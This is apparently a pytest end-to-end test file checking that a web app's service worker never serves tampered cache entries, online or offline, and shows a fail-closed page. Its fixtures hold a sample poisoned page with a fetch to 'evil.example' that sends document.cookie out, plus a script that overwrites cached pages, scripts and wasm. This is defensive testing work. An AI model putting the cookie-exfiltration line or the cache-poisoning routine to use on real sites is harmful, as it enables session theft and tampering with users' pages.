"""End to end: the service worker serves only what the build made (docs/security-sw.md).

A script of the page's origin (here: the test, from the page) replaces files in the
service worker's cache with its own, stored without a CSP, as a Learn program that
escaped to `js` once could. The next loads must get the untouched page with its CSP:
from the network when online, from the browser's HTTP cache's checked copy when offline,
and when neither has it, the plain fail-closed page; never the changed copy."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import build
from tools.serve import CSP

from .conftest import PYTHON_TIMEOUT, App, Watch
from .test_e2e_start import Site, checked_path, saved_offline, settle

SHOTS = Path("/work/team/shots/swcheck")
# A page that, if it ever ran, would leave a mark that outlives it and reach another
# origin (the Watch fails the test on any request that leaves 127.0.0.1).
POISON_PAGE = (
    "<!doctype html><title>poisoned</title><script>localStorage.setItem('poisoned', 'page');"
    "fetch('http://evil.example/steal?' + document.cookie)</script><p>pwned</p>"
)
POISON = """async ([page]) => {
  const name = (await caches.keys()).find((key) => key.startsWith("knight-py-"));
  const cache = await caches.open(name);
  const html = () => new Response(page, { headers: { "Content-Type": "text/html" } });
  const js = (text) => new Response(text, { headers: { "Content-Type": "text/javascript" } });
  await cache.put("./", html());
  await cache.put("index.html", html());
  await cache.put("evil.html", html());
  await cache.put("app.js", js("localStorage.setItem('poisoned', 'app.js');"));
  await cache.put("worker.mjs", js("localStorage; self.postMessage({ type: 'ready', poisoned: true });"));
  // The wasm too: random bytes in place of Pyodide's.
  const junk = new Uint8Array(4096);
  crypto.getRandomValues(junk);
  await cache.put("pyodide.asm.wasm", new Response(junk, { headers: { "Content-Type": "application/wasm" } }));
  return name;
}"""


class StoppableSite(Site):
    """Site, whose server goes quite offline (its open keep-alive connections are cut:
    the browser would otherwise go on fetching through them) and can come back on the
    same port (the same origin)."""

    port = 0

    def start(self) -> str:
        self.server = build.make_server(self.port, self.root, quiet=True)
        self.port = self.server.server_address[1]
        self.connections: list[socket.socket] = []
        accept = self.server.get_request

        def get_request() -> tuple[socket.socket, Any]:
            connection, address = accept()
            self.connections.append(connection)
            return connection, address

        self.server.get_request = get_request  # type: ignore[method-assign]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return build.url_of(self.server)

    def stop(self) -> None:
        super().stop()
        for connection in self.connections:
            with contextlib.suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)


@pytest.fixture
def site(tmp_path: Path, base_url: str) -> Iterator[StoppableSite]:
    site = StoppableSite(tmp_path)
    yield site
    if site.server:
        site.stop()


@pytest.fixture
def sw_context(browser: Any, watch: Watch) -> Iterator[Any]:
    """A fresh profile with service workers allowed. Requests leaving 127.0.0.1 fail the
    test (Watch); console errors are not collected: the fail-closed answers are 503s,
    which Chromium logs as errors. The page's own errors are checked where it runs."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.on("request", watch.request)
    yield context
    context.close()


def poison(app: App) -> str:
    return str(settle(app, f"({POISON})([{POISON_PAGE!r}])"))


def cached_text(app: App, name: str) -> str:
    script = (
        "caches.keys().then((keys) => caches.open(keys.find((k) => k.startsWith('knight-py-'))))"
        f".then((cache) => cache.match({name!r})).then((r) => r ? r.text() : '')"
    )
    return str(settle(app, script))


def assert_untouched(app: App, response: Any) -> None:
    """The load gave the build's page with its CSP, from the service worker, and nothing
    of the changed copies ran: Python ready (from the snapshot), the link's tour found
    and validated, no mark left."""
    assert response.from_service_worker
    headers = response.all_headers()
    assert headers["content-security-policy"] == CSP
    assert headers["cross-origin-embedder-policy"] == "require-corp"
    if "start=" in app.page.url:
        app.wait_until("window.knightTour.status === 'found'", PYTHON_TIMEOUT)
        checked_path(app)
    app.wait_python()
    assert app.state()["pythonStart"] == "snapshot"
    assert app.page.evaluate("() => crossOriginIsolated")
    assert app.page.evaluate("() => localStorage.getItem('poisoned')") is None
    assert "pwned" not in app.page.content()


def shoot(page: Any, name: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / name), full_page=True)


def test_a_poisoned_cache_is_never_served_online_or_offline(
    site: StoppableSite, sw_context: Any
) -> None:
    base = site.start()
    app = App(sw_context.new_page(), base)
    errors: list[str] = []
    app.page.on("pageerror", lambda error: errors.append(str(error)))
    app.goto("?rows=5&cols=5&start=a1")
    app.wait_until("window.knightTour.status === 'found'", PYTHON_TIMEOUT)
    saved_offline(app)
    # Online: every changed file is fetched again, and put back.
    poison(app)
    assert_untouched(app, app.page.reload())
    assert "<script>localStorage" not in cached_text(app, "./")
    assert "poisoned" not in cached_text(app, "app.js")
    # A name the build does not have is never answered from the cache.
    stray = app.page.goto(base + "evil.html")
    assert stray is not None and stray.status == 404 and "pwned" not in app.page.content()
    app.goto("?rows=5&cols=5&start=a1")
    app.wait_until("window.knightTour.status === 'found'", PYTHON_TIMEOUT)
    # Offline: the browser's HTTP cache still holds the build's files from the first
    # visit (the wasm as its compressed copy): checked, they are served instead.
    poison(app)
    site.stop()
    assert_untouched(app, app.page.reload())
    assert errors == []


def test_offline_with_nothing_checkable_the_plain_failure_page_is_shown(
    site: StoppableSite, sw_context: Any
) -> None:
    base = site.start()
    app = App(sw_context.new_page(), base)
    app.goto("?rows=5&cols=5&start=a1")
    saved_offline(app)
    poison(app)
    site.stop()
    # No copy left to check the page against: the HTTP cache emptied too.
    cdp = sw_context.new_cdp_session(app.page)
    cdp.send("Network.clearBrowserCache")
    response = app.page.reload()
    assert response is not None and response.status == 503 and response.from_service_worker
    assert "default-src 'none'" in response.all_headers()["content-security-policy"]
    text = app.page.inner_text("body")
    assert "cannot be reached" in text and "连不上网络" in text
    assert app.page.evaluate("() => localStorage.getItem('poisoned')") is None
    assert app.page.evaluate("() => document.scripts.length") == 0
    shoot(app.page, "fail-closed-1280.png")
    app.page.set_viewport_size({"width": 390, "height": 844})
    shoot(app.page, "fail-closed-390.png")
    # Back online, the page's own reload link brings the build's page back.
    site.start()
    with app.page.expect_navigation() as navigation:
        app.page.get_by_role("link", name="Reload").click()
    app.page.set_viewport_size({"width": 1280, "height": 900})
    assert_untouched(app, navigation.value)


def test_a_changed_snapshot_is_never_restored_and_the_next_start_has_it_back(
    site: StoppableSite, sw_context: Any
) -> None:
    """The snapshot is checked as it streams (docs/security-sw.md): changed, its stream
    ends in an error, the worker starts without it and says so, and the service worker
    fetches the build's copy for the next start."""
    app = App(sw_context.new_page(), site.start())
    app.goto("?rows=5&cols=5&start=a1")
    saved_offline(app)
    snapshot = json.loads((site.root / "build.json").read_text())["snapshot"]["file"]
    # The same length as the real one, a byte changed near its end: past any header check.
    settle(
        app,
        f"""caches.keys().then((keys) => caches.open(keys.find((k) => k.startsWith('knight-py-'))))
          .then(async (cache) => {{
            const bytes = new Uint8Array(await (await cache.match({snapshot!r})).arrayBuffer());
            bytes[bytes.length - 100] ^= 1;
            await cache.put({snapshot!r}, new Response(bytes));
          }})""",
    )
    app.page.reload()
    app.wait_python()
    state = app.state()
    assert state["pythonStart"] == "plain"
    # The service worker's error reaches the worker as a network error.
    assert "could not be read" in state["snapshotFallback"], state["snapshotFallback"]
    app.wait_until("window.knightTour.status === 'found'", PYTHON_TIMEOUT)
    checked_path(app)
    app.page.reload()
    app.wait_python()
    assert app.state()["pythonStart"] == "snapshot"
